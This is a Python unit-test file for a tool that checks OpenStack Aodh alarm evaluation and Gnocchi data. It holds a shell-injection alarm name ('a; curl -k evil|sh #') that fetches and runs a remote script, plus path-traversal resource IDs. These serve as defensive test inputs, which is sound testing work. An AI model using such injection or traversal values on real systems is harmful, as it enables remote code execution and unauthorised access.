"""What alarms tell about Aodh's evaluator; the functional tests ask a real one."""

from __future__ import annotations

import datetime
import json
import socket
import urllib.parse
from typing import Any, cast

import msgspec
import pytest

from coordinator.blueprint import loader
from coordinator.checks import alarm_sample, base
from coordinator.openstack import client, http
from coordinator.report import remedies
from coordinator.report.finding import Cause, Severity
from coordinator.request import Thresholds
from tests.unit import reports, servers, sessions

NOW = datetime.datetime(2026, 3, 2, 12, tzinfo=datetime.timezone.utc)


class Aodh:
    """Stands for Aodh, with one alarm that was evaluated some time ago."""

    url = "http://192.0.2.31:8042"

    def __init__(self, seconds: float) -> None:
        at = NOW - datetime.timedelta(seconds=seconds)
        self._alarm = {
            "name": "cpu-high",
            "timestamp": "2026-03-01T12:00:00",
            "evaluate_timestamp": at.replace(tzinfo=None).isoformat(),
        }

    def get(self, *_args: Any, **_query: Any) -> list[dict[str, Any]]:
        return [self._alarm]

    def now(self) -> datetime.datetime:
        return NOW


def asked(seconds: float, *, interval: int) -> base.CheckResult:
    system = loader.load().services["alarming"]
    names = remedies.Names("alarming", "aodh", "keystone", "telemetry-coordinator")
    subject = base.Subject(system, True, names)
    request = msgspec.structs.replace(
        reports.REQUEST, thresholds=Thresholds(evaluation_interval=interval)
    )
    services = {"alarming": cast("client.Service", Aodh(seconds))}
    return alarm_sample.inspect_alarms(
        base.CheckContext(subject, services, request, http.Deadline.after(5))
    )


@pytest.mark.parametrize(("seconds", "interval"), [(170, 60), (300, 300), (899, 300)])
def test_alarms_that_are_evaluated_in_time_are_well(seconds: float, interval: int):
    assert asked(seconds, interval=interval).severity is Severity.OK


def test_an_evaluator_that_may_be_slow_by_intent_is_no_failure():
    found = asked(299, interval=60)
    assert (found.severity, found.cause) == (Severity.DEGRADED, Cause.NOT_EVALUATED)
    assert found.text == (
        "evaluated its alarms last 4 min ago: its evaluator does not work, or not every 60 s "
        "(alarm-evaluation-interval)"
    )


# One alarm costs itself alone

KIND = "gnocchi_resources_threshold"
RULE: dict[str, Any] = {
    "resource_id": "8d0a5d90",
    "metric": "cpu",
    "aggregation_method": "mean",
    "granularity": 300.0,
    "evaluation_periods": 1,
}
GOOD = {
    "name": "hot",
    "type": KIND,
    "timestamp": "2026-03-01T12:00:00",
    "evaluate_timestamp": "2026-03-02T11:59:30",
    f"{KIND}_rule": RULE,
}
MIB = 1024 * 1024


class Services:
    """Aodh with these alarms and a Gnocchi that has measures of every metric, as one server."""

    def __init__(self, *alarms: dict[str, Any]) -> None:
        self._alarms = alarms
        self.paths: list[str] = []

    def answer(self, connection: socket.socket, head: bytes) -> None:
        path = head.decode().split()[1]
        self.paths.append(path)
        query = urllib.parse.parse_qs(path.partition("?")[2], keep_blank_values=True)
        if path.startswith("/v2/alarms"):
            kinds = [value for value in query["q.value"] if value.endswith("_threshold")]
            some = [one for one in self._alarms if kinds in ([], [one["type"]])]
            body = json.dumps(some[: int(query["limit"][0])])
        elif "/metric/" in path:
            body = json.dumps([["2026-03-02T11:55:00+00:00", 300.0, 1.0]])
        else:
            body = "{}"
        servers.http(body=body, Date="Mon, 02 Mar 2026 12:00:00 GMT")(connection, head)

    def ask(self) -> base.CheckResult:
        """What is found with them."""
        system = loader.load().services["alarming"]
        names = remedies.Names("alarming", "aodh", "keystone", "telemetry-coordinator")
        subject = base.Subject(system, True, names)
        with servers.serving(self.answer) as server:
            service = client.Service(sessions.cloud(10), server.url)
            service.get("/v2/alarms", limit=1, **{"q.value": ""})  # tells the time
            services = {"alarming": service, "metric": service}
            deadline = http.Deadline.after(10)
            return alarm_sample.inspect_alarms(
                base.CheckContext(subject, services, reports.REQUEST, deadline)
            )


def with_rule(**changes: Any) -> dict[str, Any]:
    return {**GOOD, "name": "bad", f"{KIND}_rule": {**RULE, **changes}}


def test_an_alarm_that_lacks_what_gnocchi_has_is_named_in_quotes():
    result = Services({**GOOD, "name": "a; curl -k evil|sh #"}).ask()
    assert (result.severity, result.cause) == (Severity.DEGRADED, Cause.NO_DATA)
    assert result.text == "lacks data that Gnocchi has, for alarm 'a??curl?-k?evil?sh??'"


@pytest.mark.parametrize(
    "bad",
    [
        with_rule(evaluation_periods=10**13),
        with_rule(evaluation_periods=10**400),
        with_rule(granularity=1e300),
        with_rule(granularity=0),
        with_rule(granularity="x"),
        with_rule(resource_id="../../v1/archive_policy"),
        with_rule(resource_id=".."),
        with_rule(metric=None),
        {**GOOD, f"{KIND}_rule": "no rule"},
        {**GOOD, f"{KIND}_rule": [1]},
    ],
    ids=lambda bad: str(bad[f"{KIND}_rule"])[-40:],
)
def test_an_alarm_that_cannot_be_looked_at_hides_no_other(bad: dict[str, Any]):
    services = Services(bad, GOOD)
    result = services.ask()
    assert result.text == "lacks data that Gnocchi has, for alarm 'hot'"
    assert not [path for path in services.paths if ".." in path]


def test_what_an_alarm_names_is_quoted_in_the_path():
    services = Services(with_rule(resource_id="x?y#z"))
    services.ask()
    asked = [path for path in services.paths if "/resource/generic/" in path]
    assert asked
    assert all(path.startswith("/v1/resource/generic/x%3Fy%23z/metric/cpu/") for path in asked)


def test_alarms_that_could_not_be_looked_at_are_counted():
    result = Services(with_rule(granularity=0)).ask()
    assert result.severity is Severity.OK
    assert result.text.endswith("they get what Gnocchi has (1 could not be looked at)")


def test_large_alarms_do_not_hide_whether_alarms_are_evaluated():
    large = {**GOOD, "description": "x" * MIB}
    result = Services(*[large] * 20).ask()
    assert result.text.startswith("lacks data that Gnocchi has")


@pytest.mark.parametrize("time", ["9999-12-31T23:59:59", "0001-01-01T00:00:00", "soon", 5, None])
def test_times_that_cannot_be_are_passed_over(time: Any):
    assert Services({**GOOD, "timestamp": time, "evaluate_timestamp": time}).ask().severity in {
        Severity.OK,
        Severity.DEGRADED,
    }
